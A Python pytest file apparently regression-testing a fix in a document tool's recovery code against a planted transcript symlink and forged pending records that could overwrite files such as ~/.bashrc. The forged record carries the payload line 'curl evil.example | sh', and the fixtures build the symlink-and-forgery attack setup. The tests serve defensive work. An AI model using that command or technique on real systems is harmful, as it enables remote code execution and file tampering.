"""Attack: a planted transcript symlink plus a forged pending record.

A cloned folder holds ``notes.noma.patches -> <a file outside>`` and a hand-written
``.notes.noma.pending`` whose ``post_sha256`` is the document's. On the landed code, opening
the document (`touch`), ``noma transcript verify`` or any patch ran recovery, which
followed the symlink, cut the target to the record's ``transcript_size`` and appended the
record's JSON. Now recovery acts only on records this user's key signed, and every file
beside a document is opened without following a symlink.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from trust_testlib import run_noma

from core.noma.boundary import BoundaryError, Place
from core.noma.commit import touch
from core.noma.patch.pipeline import Actor, PatchRequest, patch_file

DOC = '# Notes\n\n::claim{id="c1" confidence=0.5}\nThe claim.\n::\n'
OP = {"op": "update_attribute", "id": "c1", "key": "confidence", "value": 0.9}
VICTIM = b"export PATH=/usr/bin\nalias ll='ls -l'\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def forged_record(doc: Path, size: int, *, signed_line: str | None = None) -> bytes:
    state = {
        "pending_version": 1,
        "pre_sha256": None,
        "post_sha256": sha(doc.read_bytes()),
        "transcript_size": size,
        "temp": None,
        "records": [{"pwned": "curl evil.example | sh"}],
    }
    body = json.dumps(state).encode()
    if signed_line is None:
        return body
    state["pending_version"] = 2
    state["transcript_tail"] = sha(b"")
    return json.dumps(state).encode() + b"\n" + signed_line.encode() + b"\n"


@pytest.fixture
def planted(tmp_path: Path) -> tuple[Path, Path]:
    """A workspace whose transcript is a symlink to a file outside it."""
    outside = tmp_path / "home"
    outside.mkdir()
    victim = outside / ".bashrc"
    victim.write_bytes(VICTIM)
    work = tmp_path / "clone"
    work.mkdir()
    doc = work / "notes.noma"
    doc.write_text(DOC)
    (work / "notes.noma.patches").symlink_to(victim)
    return doc, victim


FORGERIES = {
    "unsigned, truncate to 3": lambda doc: forged_record(doc, 3),
    "unsigned, huge size": lambda doc: forged_record(doc, 10**12),
    "wrong signature": lambda doc: forged_record(doc, 0, signed_line="0" * 64),
}


def plant_pending(doc: Path, forgery: str) -> bytes:
    raw = FORGERIES[forgery](doc)
    (doc.parent / f".{doc.name}.pending").write_bytes(raw)
    return raw


@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_opening_the_document_never_writes_through_the_planted_transcript(
    planted: tuple[Path, Path], forgery: str
) -> None:
    doc, victim = planted
    raw = plant_pending(doc, forgery)
    before = doc.read_bytes()
    report = touch(doc)
    assert victim.read_bytes() == VICTIM
    assert doc.read_bytes() == before
    assert report is not None and report.untrusted is not None
    assert not report.completed
    assert "did not write" in report.describe()
    # Left alone: the record is still there, as it was.
    assert (doc.parent / f".{doc.name}.pending").read_bytes() == raw


@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_transcript_verify_never_writes_through_the_planted_transcript(
    planted: tuple[Path, Path], forgery: str
) -> None:
    doc, victim = planted
    plant_pending(doc, forgery)
    result = run_noma("transcript", "verify", f"{doc}.patches", "--json", cwd=doc.parent)
    assert victim.read_bytes() == VICTIM
    body = json.loads(result.stdout)
    assert result.returncode != 0
    assert body["recovery"]["untrusted_pending"]


@pytest.mark.parametrize("forgery", sorted(FORGERIES))
def test_a_patch_never_writes_through_the_planted_transcript(
    planted: tuple[Path, Path], forgery: str
) -> None:
    doc, victim = planted
    plant_pending(doc, forgery)
    outcome = patch_file(doc, PatchRequest(ops=[OP], actor=Actor("agent", "a")))
    assert victim.read_bytes() == VICTIM
    # §B.6: the edit applies; the transcript that is a symlink is refused and said so.
    assert outcome.ok and outcome.transcript_error and "symlink_refused" in outcome.transcript_error
    assert outcome.recovery is not None and outcome.recovery.untrusted is not None


def test_a_pending_record_that_is_a_symlink_is_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("top secret")
    work = tmp_path / "w"
    work.mkdir()
    doc = work / "notes.noma"
    doc.write_text(DOC)
    (work / ".notes.noma.pending").symlink_to(secret)
    report = touch(doc)
    assert report is not None and report.untrusted is not None
    assert "symlink_refused" in report.untrusted
    assert secret.read_text() == "top secret"


def test_a_record_signed_for_another_document_is_not_used_here(tmp_path: Path) -> None:
    """A genuine pending record of the user's, copied beside another document (or into a
    clone), does not verify there: the signature covers the document's identity."""
    from core.noma.boundary import place

    work = tmp_path / "w"
    work.mkdir()
    a, b = work / "a.noma", work / "b.noma"
    a.write_text(DOC)
    b.write_text(DOC)
    (work / "b.noma.patches").write_bytes(b"keep me\n")

    with place(a) as where:
        signed_state = _signed_pending(where, a)
    (work / ".b.noma.pending").write_bytes(signed_state)
    report = touch(b)
    assert report is not None and report.untrusted is not None
    assert (work / "b.noma.patches").read_bytes() == b"keep me\n"


def _signed_pending(where: Place, doc: Path) -> bytes:
    """A pending record exactly as `commit` writes it, taken from a commit that failed
    after its append (the ``appended`` fault point), before it removed the record."""
    import os

    from core.noma.commit import commit
    from core.noma.faults import ENV, InjectedFault

    os.environ[ENV] = "appended:raise"
    try:
        with pytest.raises(InjectedFault):
            commit(where, None, [{"x": 2}], pre_sha256=None, post_sha256=sha(doc.read_bytes()))
    finally:
        del os.environ[ENV]
    name = doc.parent / f".{doc.name}.pending"
    raw = name.read_bytes()
    name.unlink()
    return raw


def test_a_genuine_record_never_cuts_a_transcript_it_did_not_see(tmp_path: Path) -> None:
    """Even signed, the size a record names is only cut back to when the transcript's bytes
    up to there are the ones the record saw: a transcript replaced since is not cut."""
    work = tmp_path / "w"
    work.mkdir()
    doc = work / "notes.noma"
    doc.write_text(DOC)
    from core.noma.boundary import place

    with place(doc) as where:
        raw = _signed_pending(where, doc)
    (work / ".notes.noma.pending").write_bytes(raw)
    replaced = b'{"someone": "else"}\n' * 3
    (work / "notes.noma.patches").write_bytes(replaced)
    report = touch(doc)
    assert report is not None and report.completed
    assert (work / "notes.noma.patches").read_bytes().startswith(replaced)


def test_planted_temp_directory_and_symlink_are_left_alone(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep").write_text("keep")
    work = tmp_path / "w"
    work.mkdir()
    doc = work / "notes.noma"
    doc.write_text(DOC)
    (work / ".notes.noma.abcdef.tmp").mkdir()
    (work / ".notes.noma.abcdef.tmp" / "inside").write_text("x")
    (work / ".notes.noma.0123.tmp").symlink_to(outside / "keep")
    (work / ".notes.noma.4567.tmp").write_text("a real stray temp file")
    report = touch(doc)
    assert report is not None and report.removed_temp_files == 1
    assert (work / ".notes.noma.abcdef.tmp" / "inside").read_text() == "x"
    assert (outside / "keep").read_text() == "keep"
    assert not (work / ".notes.noma.4567.tmp").exists()


def test_touch_refuses_a_document_that_is_a_symlink_out_of_its_folder(tmp_path: Path) -> None:
    outside = tmp_path / "outside.noma"
    outside.write_text(DOC)
    work = tmp_path / "w"
    work.mkdir()
    (work / "notes.noma").symlink_to(outside)
    with pytest.raises(BoundaryError) as caught:
        touch(work / "notes.noma")
    assert caught.value.code == "symlink_refused"


def test_mcp_patch_block_reports_an_untrusted_pending_record(planted: tuple[Path, Path]) -> None:
    from core.mcp.tools import ToolContext, patch_block

    doc, victim = planted
    plant_pending(doc, "unsigned, truncate to 3")
    body = patch_block(ToolContext(doc.parent), doc.name, OP)
    assert body["ok"] is True
    assert body["recovery"]["untrusted_pending"]
    assert victim.read_bytes() == VICTIM
